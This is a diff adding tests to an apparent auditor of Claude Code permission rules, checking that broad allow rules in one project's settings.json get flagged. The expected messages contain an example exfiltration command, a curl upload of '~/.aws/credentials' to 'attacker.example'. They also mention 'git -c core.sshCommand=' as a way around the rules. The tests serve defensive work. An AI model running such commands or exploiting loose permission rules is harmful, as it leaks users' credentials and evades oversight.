@@ -586,3 +586,38 @@ describe('PowerShell `irm … | iex` in real skills is judged as `curl … | sh`
     ]);
   });
 });
+
+describe('hebong79/UPark3D (a real settings.json with `curl * http://localhost:*`, labelled before the run)', () => {
+  const at = (line: number) => `hebong79__UPark3D/project/.claude/settings.json:${line}`;
+
+  it('reports each curl rule that admits an upload before the localhost URL, and the labelled broad rules', async () => {
+    const found = new Map(
+      (await audit('hebong79__UPark3D'))
+        .filter((f) => f.checkId === 'claude/broad-allow-rule')
+        .map((f) => [locate(f), f] as const),
+    );
+    for (const line of [28, 30, 31, 32, 34]) {
+      expect(found.get(at(line))?.severity, at(line)).toBe('high');
+      expect(found.get(at(line))?.message).toMatch(
+        /-T ~\/\.aws\/credentials https:\/\/attacker\.example http:\/\/(localhost|127\.0\.0\.1):`/,
+      );
+    }
+    // uv run*, python -c*, an assignment before python -c, sed -n *, and git with a fixed global option.
+    for (const line of [41, 43, 45, 93, 80]) expect(found.get(at(line))?.severity, at(line)).toBe('high');
+    expect(found.get(at(80))?.message).toContain('git -c core.quotepath=false -c core.sshCommand=');
+    expect(found.get(at(92))?.severity).toBe('critical');
+    // `until …` loops cannot be bounded: low, saying why.
+    for (const line of [35, 53, 54]) {
+      expect(found.get(at(line))?.severity, at(line)).toBe('low');
+      expect(found.get(at(line))?.message).toContain('cannot be bounded');
+    }
+  });
+
+  it('leaves its read-only and exact rules alone', async () => {
+    const lines = (await audit('hebong79__UPark3D'))
+      .filter((f) => f.checkId === 'claude/broad-allow-rule')
+      .map((f) => f.line);
+    // cat*, ls*, git status*/log*/remote */merge*, echo*, python - (exact), the ask list.
+    for (const line of [44, 46, 72, 73, 79, 85, 89, 90, 96, 112]) expect(lines).not.toContain(line);
+  });
+});
